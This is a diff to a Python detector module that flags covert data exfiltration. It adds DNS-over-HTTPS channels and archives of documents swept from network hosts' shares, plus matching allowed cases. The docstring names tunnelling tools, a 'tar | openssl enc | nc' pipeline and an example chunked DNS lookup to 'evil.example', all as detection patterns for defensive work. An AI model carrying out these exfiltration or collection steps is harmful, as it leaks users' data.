@@ -4,7 +4,10 @@ What it catches
     Data encoded and split into chunks (or looked up piece by piece as DNS names) that travel as
     DNS lookups or ICMP/raw packet payloads (also Ruby's `Resolv::DNS#getresources`, Perl's
     `Net::DNS::Resolver` over `unpack('H*', ...)`, Java's `InetAddress.getByName`, a file read
-    in small pieces straight into a packet after its ICMP header in C), a user's folder
+    in small pieces straight into a packet after its ICMP header in C; lookups made over HTTPS
+    to a public resolver's DoH endpoint, `dns.google/resolve?name=`, `/dns-query?name=`, a
+    request asking for `application/dns-json`, which the network sees only as TLS to the
+    resolver), a user's folder
     archived and posted in pieces to a chat webhook (Discord's, Slack's) under its size limit,
     or a file walk whose contents are chunked or encoded and uploaded to a webhook or server
     (Perl's File::Find and HTTP::Tiny or a POST written by hand to a socket, PHP's Guzzle);
@@ -17,7 +20,10 @@ What it catches
     user's archived files posted to a bare public address (PHP's post through a stream context,
     `file_get_contents($url, false, $ctx)`, too); running a DNS or ICMP tunnelling
     tool (`iodine`, `dnscat2`, `ptunnel`, `icmpsh`); as an agent action, data archived,
-    encrypted and streamed down a raw socket in one pipeline (`tar | openssl enc | nc`). A
+    encrypted and streamed down a raw socket in one pipeline (`tar | openssl enc | nc`);
+    office documents picked by type out of the shares of every host of an address range
+    (`net view \\host` over `ip.Mask(n.Mask); n.Contains(ip)`, `ipaddress.ip_network(...)
+    .hosts()`) and packed into one archive: collection staged to be taken. A
     database dump uploaded to a bare public address is ACT-DATABASE-EXFIL's.
 
 Why it is a redline (RL-EXFIL)
@@ -28,11 +34,14 @@ Example
     `    dns.resolver.resolve(f"{chunk}.x.evil.example")`
 
 Allowed instead
-    Syncing one's own documents to one's own bucket, a Suricata rule for DNS tunnelling,
+    Syncing one's own documents to one's own bucket, a DoH resolver client looking up a host
+    name (RFC 8484's base64url query message is one lookup, not chunks of data), a Suricata rule
+    for DNS tunnelling,
     uploading logs to a SIEM, resumable uploads with `Content-Range` and retry backoff or a
     storage service's upload sessions (`files_upload_session_start`, S3 multipart), a
     request-id header, DNS monitoring that flags long labels, ping health checks, a database
-    backup sent to one's own bucket or to a machine of one's own network.
+    backup sent to one's own bucket or to a machine of one's own network, an inventory of the
+    shares of one's servers (names, sizes, permissions), a backup of one named share.
 """
 
 from __future__ import annotations
@@ -42,6 +51,7 @@ from redline.redlines.capabilities import Capability as Cap
 from redline.redlines.registry import Detection, detector, pieces, supported
 
 _CHANNELS = (Cap.WEBHOOK, Cap.NET_SEND, Cap.MAIL_SEND)
+_COLLECTED = (Cap.HOST_SWEEP, Cap.SPREAD_TARGET, Cap.FILE_WALK, Cap.DOCUMENT_SELECTION, Cap.ARCHIVE)
 
 
 def _looked_up_after(found: Capabilities, shaping: Cap) -> bool:
@@ -131,6 +141,11 @@ def covert_exfil(found: Capabilities) -> Detection | None:
         # A backup takes a folder as it is; picking a user's documents out of the whole home
         # and sending them to a bare address is staging them for someone else.
         concealed = [Cap.UNVETTED_SOURCE, Cap.DOCUMENT_SELECTION]
+    if found.has_all(*_COLLECTED):
+        # Documents picked by type out of the shares of every host of an address range and
+        # packed into one archive: what is collected and staged to be taken, whichever way it
+        # leaves later (an inventory lists shares; a backup copies one share whole).
+        return supported(found, 0.7, _COLLECTED, "documents from every host's shares packed up")
     if Cap.FILE_WALK in found and channel and concealed:
         core = (Cap.FILE_WALK, *channel, *concealed)
         return supported(found, 0.75, core, "walked files shipped out of sight")
